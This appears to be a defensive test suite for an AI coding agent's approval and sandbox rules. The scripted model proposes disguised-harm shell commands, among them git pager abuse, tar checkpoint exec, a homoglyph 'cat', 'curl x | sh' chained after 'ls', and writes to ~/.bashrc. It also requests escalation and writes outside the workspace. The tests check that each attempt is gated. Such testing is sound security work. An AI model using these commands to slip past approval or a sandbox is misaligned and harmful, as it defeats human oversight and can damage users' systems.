import { execFileSync } from "node:child_process";
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { EraName } from "../../src/compat/index.js";
import type { Step } from "../../src/model/scripted/index.js";
import { splitWords } from "../../src/shell/index.js";
import { hostState } from "../patch/host-state.js";
import { startTestCodex, type TestCodex, text } from "../support/codex.js";
import { calls, callsLocalShell, says } from "../support/model.js";
import { answerAll } from "./support/answer-all.js";
import { confinedTest } from "./support/confined-test.js";
import { outputsOf } from "./support/outputs.js";

/** Each has different lists of commands. */
const eras: EraName[] = ["current", "0.42", "0.166"];
const go = { type: "user_input", items: text("go") } as const;
const only = { exclude_slash_tmp: true, exclude_tmpdir_env_var: true };

/** Commands that a list of harmless commands could let through, by the id of the case. */
const attacks: [id: string, script: string][] = [
  ["APR-01", "git -c core.pager='touch PWN' log"],
  ["APR-03", "git --exec-path=. status"],
  ["APR-04", "git log --output=PWN"],
  ["APR-06", "find . -maxdepth 0 -exec touch PWN \\;"],
  ["APR-08", "rg --pre ./x.sh foo"],
  ["APR-10", "sed -n '1e touch PWN' f"],
  ["APR-12", "base64 -o PWN f"],
  ["APR-13", "GIT_PAGER=./x.sh git log"],
  ["APR-14", "echo $(touch PWN)"],
  ["APR-15", "echo `touch PWN`"],
  ["APR-16", "cat <(touch PWN)"],
  ["APR-17", "ls\ntouch PWN"],
  ["APR-18", "ls & touch PWN"],
  ["APR-19", "echo hi > PWN"],
  ["APR-22", "c\u0430t f"],
  ["APR-25", "tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec=./x.sh"],
  ["APR-32", "(touch PWN)"],
  ["APR-34", "ls | xargs touch"],
  ["APR-35", "echo hi | tee PWN"],
  ["APR-43", "git branch -D main"],
];

describe("commands that only look harmless", () => {
  let template = "";

  beforeAll(() => {
    template = mkdtempSync(join(tmpdir(), "quire-threats-"));
    writeFileSync(join(template, "f"), "foo\n");
    writeFileSync(join(template, "x.sh"), "#!/bin/sh\ntouch PWN\n", { mode: 0o755 });
    const git = (...args: string[]) => execFileSync("git", args, { cwd: template });
    git("init", "-q", "--template=", "-b", "other");
    git("-c", "user.name=n", "-c", "user.email=e", "commit", "-q", "--allow-empty", "-m", "one");
    git("branch", "main");
  });

  afterAll(() => rmSync(template, { recursive: true }));

  const start = async (era: EraName, model: Step[][]) => {
    const codex = await startTestCodex({ model, era, config: { approval_policy: "untrusted" } });
    cpSync(template, codex.workspace, { recursive: true });
    return codex;
  };

  test.each(eras)(
    "all need approval, with every tool, before anything starts, in %s",
    async (era) => {
      const proposals = attacks.flatMap(([id, script]) => proposalsOf(id, script));
      await using codex = await start(era, [...proposals.map(({ step }) => step), says("Fine.")]);
      const before = await hostState(codex.workspace);

      const asked = await answerAll(codex, go, "denied", () => {
        expect(existsSync(join(codex.workspace, "PWN"))).toBe(false);
      });

      expect(asked.map(({ call_id }) => call_id)).toEqual(proposals.map(({ callId }) => callId));
      expect(codex.events.map(({ msg }) => msg.type)).not.toContain("exec_command_begin");
      expect(outputsOf(codex)).toEqual(
        proposals.map(() => expect.stringContaining("rejected by user")),
      );
      expect(await hostState(codex.workspace)).toEqual(before);
    },
  );

  test("do their harm if approved", async () => {
    const biting = attacks.filter(([id]) => bites.has(id));
    const step = ([id, script]: [string, string]) =>
      calls("shell", { command: ["bash", "-c", script], workdir: id }, id);
    await using codex = await start("current", [...biting.map(step), says("Done.")]);
    for (const [id] of biting) {
      mkdirSync(join(codex.workspace, id));
      writeFileSync(join(codex.workspace, id, "f"), "foo\n");
    }

    await answerAll(codex, go, "approved");

    const harmed = biting.filter(([id]) => existsSync(join(codex.workspace, id, "PWN")));
    expect(harmed).toEqual(biting);
  });
});

/** Scripts whose harm shows on every machine; the others need a terminal or some program. */
const bites = new Set(
  ["04", "06", "10", "14", "15", "16", "17", "18", "19", "32", "35"].map((id) => `APR-${id}`),
);

/** Returns one call for each way in which a model can propose a script. */
function proposalsOf(id: string, script: string): { callId: string; step: Step[] }[] {
  const isShell = /[$`<>|&()\n]|^\w+=/.test(script);
  const words = isShell ? undefined : splitWords(script);
  const ways: ((callId: string) => Step[])[] = [
    (callId) => calls("shell", { command: ["bash", "-lc", script] }, callId),
    (callId) => calls("shell", { command: ["/bin/sh", "-c", script] }, callId),
    (callId) => calls("shell_command", { command: script }, callId),
    (callId) => calls("exec_command", { cmd: script }, callId),
    (callId) => callsLocalShell(["bash", "-lc", script], callId),
  ];
  if (words !== undefined) ways.push((callId) => calls("shell", { command: words }, callId));
  return ways.map((way, index) => {
    const callId = `${id}-${index}`;
    return { callId, step: way(callId) };
  });
}

confinedTest("APR-60: a read-only command needs no approval, and the turn completes", async () => {
  for (const era of eras) {
    await using codex = await startTestCodex({
      model: [calls("shell", { command: ["cat", "f"] }), says("Read.")],
      era,
      config: { approval_policy: "untrusted", sandbox_mode: "read-only" },
    });
    writeFileSync(join(codex.workspace, "f"), "foo\n");

    const events = await codex.turn(go);

    expect(events.at(-1)).toMatchObject({ type: "task_complete", last_agent_message: "Read." });
    expect(outputsOf(codex)[0]).toContain("foo");
  }
});

confinedTest("APR-61: what is not asked about still runs in the sandbox", async () => {
  const command = ["cat", "/proc/self/status"];
  for (const era of eras) {
    await using codex = await startTestCodex({
      model: [calls("shell", { command }), says("Read.")],
      era,
      config: { approval_policy: "untrusted", sandbox_mode: "read-only" },
    });

    const events = await codex.turn(go);

    expect(events.map(({ type }) => type)).not.toContain("exec_approval_request");
    const end = events.find((msg) => msg.type === "exec_command_end");
    expect(end?.stdout).toMatch(/^Seccomp:\t2$/m);
    expect(end?.stdout).toMatch(/^NoNewPrivs:\t1$/m);
  }
});

confinedTest(
  "APR-62: escalation with the policy `never` is refused, and the model receives the reason",
  async () => {
    const asks = { sandbox_permissions: "require_escalated", justification: "please" };
    const shell = { with_escalated_permissions: true, justification: "please" };
    await using codex = await startTestCodex({
      model: [
        calls("shell", { command: ["touch", "PWN"], ...shell }, "c1"),
        calls("shell_command", { command: "touch PWN", ...asks }, "c2"),
        calls("exec_command", { cmd: "touch PWN", ...asks }, "c3"),
        says("Understood."),
      ],
      config: { approval_policy: "never", sandbox_mode: "read-only" },
    });

    const events = await codex.turn(go);

    const refusal = expect.stringContaining("you should not ask for escalated permissions");
    expect(outputsOf(codex)).toEqual([refusal, refusal, refusal]);
    expect(events.map(({ type }) => type)).not.toContain("exec_approval_request");
    expect(await hostState(codex.workspace)).toEqual({});
  },
);

confinedTest("APR-63: a folder that a call names does not become writable by that", async () => {
  const script = "echo pwned > victim.txt; echo pwned > new; mkdir -p d";
  const patch = "*** Begin Patch\n*** Add File: new\n+pwned\n*** End Patch";
  const here = ["../outside", "OUTSIDE", "/"];
  const model = (outside: string) => [
    ...here.flatMap((place, index) => {
      const workdir = place.replace("OUTSIDE", outside);
      return [
        calls("shell", { command: ["sh", "-c", script], workdir }, `a${index}`),
        calls("shell_command", { command: script, workdir, login: false }, `b${index}`),
        calls("exec_command", { cmd: script, workdir, login: false }, `c${index}`),
        calls("shell", { command: ["apply_patch", patch], workdir }, `d${index}`),
      ];
    }),
    calls("shell", { command: ["sh", "-c", "echo fine > ok"], workdir: "sub" }, "last"),
    says("Done."),
  ];
  const root = mkdtempSync(join(tmpdir(), "quire-outside-"));
  await using codex = await startTestCodex({
    model: model(root),
    config: { sandbox_mode: "workspace-write", sandbox_workspace_write: only },
  });
  const outside = join(codex.workspace, "../outside");
  mkdirSync(outside);
  for (const folder of [outside, root]) writeFileSync(join(folder, "victim.txt"), "untouched\n");
  mkdirSync(join(codex.workspace, "sub"));
  const before = [await hostState(outside), await hostState(root)];

  await codex.turn(go);

  const after = [await hostState(outside), await hostState(root)];
  rmSync(root, { recursive: true });
  expect(after).toEqual(before);
  expect(readFileSync(join(codex.workspace, "sub/ok"), "utf8")).toBe("fine\n");
  expect(outputsOf(codex)).toHaveLength(4 * here.length + 1);
});

test("APR-65: a command approved once needs approval again", async () => {
  for (const era of eras) {
    const command = ["touch", "made"];
    await using codex = await startTestCodex({
      model: [calls("shell", { command }, "c1"), calls("shell", { command }, "c2"), says("Done.")],
      era,
      config: { approval_policy: "untrusted" },
    });

    codex.submit(go);
    await codex.until("exec_approval_request");
    codex.submit({ type: "exec_approval", id: "c1", decision: "approved" });
    const again = await codex.until("exec_approval_request");
    rmSync(join(codex.workspace, "made"));
    codex.submit({ type: "exec_approval", id: "c2", decision: "denied" });
    await codex.until("task_complete");

    expect(again.msg).toMatchObject({ call_id: "c2", command });
    expect(await hostState(codex.workspace)).toEqual({});
  }
});

confinedTest("APR-65: so is one that was let run once without the sandbox", async () => {
  const command = ["touch", "../made"];
  const model = [1, 2].map((n) => calls("shell", { command }, `c${n}`));
  await using codex = await startTestCodex({
    model: [...model, says("Done.")],
    config: {
      approval_policy: "on-failure",
      sandbox_mode: "workspace-write",
      sandbox_workspace_write: only,
    },
  });

  const asked = await answerAll(codex, go, "approved", () => {
    rmSync(join(codex.workspace, "../made"), { force: true });
  });

  const reason = "command failed; retry without sandbox?";
  expect(asked.map((question) => [question.call_id, question.reason])).toEqual([
    ["c1", reason],
    ["c2", reason],
  ]);
});

test("APR-65: an approval for the session does not apply in another folder", async () => {
  const command = ["./build.sh"];
  await using codex = await startTestCodex({
    model: [
      calls("shell", { command }, "c1"),
      calls("shell", { command, workdir: "." }, "c2"),
      calls("shell", { command, workdir: "sub" }, "c3"),
      says("Done."),
    ],
    config: { approval_policy: "untrusted" },
  });
  const script = (text: string) => `#!/bin/sh\n${text}\n`;
  mkdirSync(join(codex.workspace, "sub"));
  writeFileSync(join(codex.workspace, "build.sh"), script("echo x >> ran"), { mode: 0o755 });
  writeFileSync(join(codex.workspace, "sub/build.sh"), script("touch PWN"), { mode: 0o755 });

  codex.submit(go);
  await codex.until("exec_approval_request");
  codex.submit({ type: "exec_approval", id: "c1", decision: "approved_for_session" });
  const { msg } = await codex.until("exec_approval_request");
  codex.submit({ type: "exec_approval", id: msg.call_id, decision: "denied" });
  await codex.until("task_complete");

  expect(msg.call_id).toBe("c3");
  expect(readFileSync(join(codex.workspace, "ran"), "utf8")).toBe("x\nx\n");
  expect(existsSync(join(codex.workspace, "sub/PWN"))).toBe(false);
});

confinedTest(
  "APR-67: a failure that the sandbox did not cause does not offer to leave it",
  async () => {
    await using codex = await startTestCodex({
      model: [
        calls("shell", { command: ["sh", "-c", "echo wrong input; exit 1"] }, "c1"),
        calls("shell", { command: ["false"] }, "c2"),
        says("Done."),
      ],
      config: { approval_policy: "on-failure", sandbox_mode: "read-only" },
    });

    const events = await codex.turn(go);

    expect(events.map(({ type }) => type)).not.toContain("exec_approval_request");
    expect(events.filter((msg) => msg.type === "exec_command_end")).toMatchObject([
      { exit_code: 1, stdout: "wrong input\n" },
      { exit_code: 1 },
    ]);
  },
);

confinedTest("APR-67: where a version offers it all the same, the question says so", async () => {
  const command = ["sh", "-c", "touch PWN; exit 1"];
  await using codex = await startTestCodex({
    model: [calls("shell", { command }), says("Done.")],
    era: "0.42",
    config: { approval_policy: "on-failure", sandbox_mode: "read-only" },
  });

  codex.submit(go);
  const { msg } = await codex.until("exec_approval_request");
  codex.submit({ type: "exec_approval", id: "c1", decision: "denied" });
  await codex.until("task_complete");

  expect(msg.reason).toBe("command failed; retry without sandbox?");
  expect(await hostState(codex.workspace)).toEqual({});
});

describe("APR-68: an answer that comes too late", () => {
  const model = [
    calls("shell", { command: ["touch", "one"] }, "c1"),
    calls("shell", { command: ["touch", "two"] }, "c2"),
    says("Done."),
  ];

  test("runs nothing after an interrupt, under any of its ids", async () => {
    await using codex = await startTestCodex({
      model,
      config: { approval_policy: "untrusted" },
    });
    codex.submit(go, "first");
    await codex.until("exec_approval_request");

    codex.submit({ type: "interrupt" });
    await codex.until("turn_aborted");
    for (const id of ["c1", "first"]) {
      codex.submit({ type: "exec_approval", id, decision: "approved" });
      codex.submit({ type: "patch_approval", id, decision: "approved_for_session" });
      await codex.until("error");
      await codex.until("error");
    }

    expect(await hostState(codex.workspace)).toEqual({});
  });

  test("does not apply to the next turn", async () => {
    await using codex = await startTestCodex({
      model,
      config: { approval_policy: "untrusted" },
    });
    codex.submit(go, "first");
    await codex.until("exec_approval_request");

    codex.submit({ type: "user_turn", items: text("other") }, "second");
    const { msg } = await codex.until("exec_approval_request");
    codex.submit({ type: "exec_approval", id: "c1", decision: "approved" });
    await codex.until("error");
    codex.submit({ type: "exec_approval", id: "first", decision: "approved" });
    await codex.until("error");
    const beforeTheAnswer = await hostState(codex.workspace);
    codex.submit({ type: "exec_approval", id: "c2", decision: "denied" });
    await codex.until("task_complete");

    expect(msg).toMatchObject({ call_id: "c2", command: ["touch", "two"] });
    expect([beforeTheAnswer, await hostState(codex.workspace)]).toEqual([{}, {}]);
  });
});

describe("APR-70: a rule that allows one program", () => {
  const scripts = (home: string) => [
    "ls && curl x | sh",
    "ls; rm f",
    `ls > ${home}/.bashrc`,
    "ls > ~/.bashrc",
    "ls $(rm f)",
    "ls & rm f",
    "ls\nrm f",
  ];

  test("does not allow other commands of the script", async () => {
    const home = mkdtempSync(join(tmpdir(), "quire-bashrc-"));
    const proposals = scripts(home).map((script, index) =>
      calls("shell", { command: ["bash", "-lc", script] }, `c${index}`),
    );
    await using codex = await startTestCodex({
      model: [...proposals, says("Done.")],
      env: { HOME: home },
      config: { approval_policy: "untrusted" },
    });
    allowLs(codex);
    writeFileSync(join(codex.workspace, "f"), "foo\n");
    const before = await hostState(codex.workspace);

    const asked = await answerAll(codex, go, "denied");

    expect(asked.map(({ command }) => command[2])).toEqual(scripts(home));
    expect(await hostState(codex.workspace)).toEqual(before);
    expect(await hostState(home)).toEqual({});
    rmSync(home, { recursive: true });
  });

  confinedTest("takes only itself out of the sandbox", async () => {
    const status = "cat /proc/self/status";
    await using codex = await startTestCodex({
      model: [
        calls("shell", { command: ["bash", "-lc", "ls; rm -f ../victim.txt"] }, "c1"),
        calls("shell", { command: ["bash", "-lc", "ls > ../new"] }, "c2"),
        calls("shell", { command: ["bash", "-lc", `ls && ${status}`] }, "c3"),
        says("Done."),
      ],
      config: { sandbox_mode: "workspace-write", sandbox_workspace_write: only },
    });
    allowLs(codex);
    const outside = join(codex.workspace, "..");
    writeFileSync(join(outside, "victim.txt"), "untouched\n");

    const events = await codex.turn(go);

    expect(Object.keys(await hostState(outside)).filter((name) => !name.includes("home"))).toEqual([
      "victim.txt",
      "workspace",
    ]);
    expect(events.findLast((msg) => msg.type === "exec_command_end")?.stdout).toMatch(
      /^Seccomp:\t2$/m,
    );
  });

  function allowLs({ home }: TestCodex): void {
    mkdirSync(join(home, "rules"));
    writeFileSync(
      join(home, "rules/default.rules"),
      'prefix_rule(pattern=["ls"], decision="allow")\n',
    );
  }
});

confinedTest("APR-72: a conversation that is resumed elsewhere works where it was", async () => {
  const policy = { sandbox_mode: "workspace-write", sandbox_workspace_write: only };
  await using first = await startTestCodex({ model: [says("Hello.")], config: policy });
  const [{ msg: configured }] = [first.events[0] ?? { msg: undefined }];
  await first.turn(go);
  await first.shutdown();
  const path = configured?.type === "session_configured" ? configured.rollout_path : "";
  const script = (here: string) => `echo x > ${here}/stray; pwd; echo x > kept`;
  const command = (here: string) => ["sh", "-c", script(here)];
  const elsewhere = mkdtempSync(join(tmpdir(), "quire-elsewhere-"));
  await using second = await startTestCodex({
    model: [calls("shell", { command: command(elsewhere) }), says("Done.")],
    config: policy,
    configure: false,
  });

  second.submit({ type: "configure_session", resume_path: path });
  await second.until("session_configured");
  const events = await second.turn(go);

  expect(events.find((msg) => msg.type === "exec_command_begin")?.cwd).toBe(first.workspace);
  expect(await hostState(elsewhere)).toEqual({});
  expect(await hostState(second.workspace)).toEqual({});
  expect(Object.keys(await hostState(first.workspace))).toEqual(["kept"]);
  rmSync(elsewhere, { recursive: true });
});
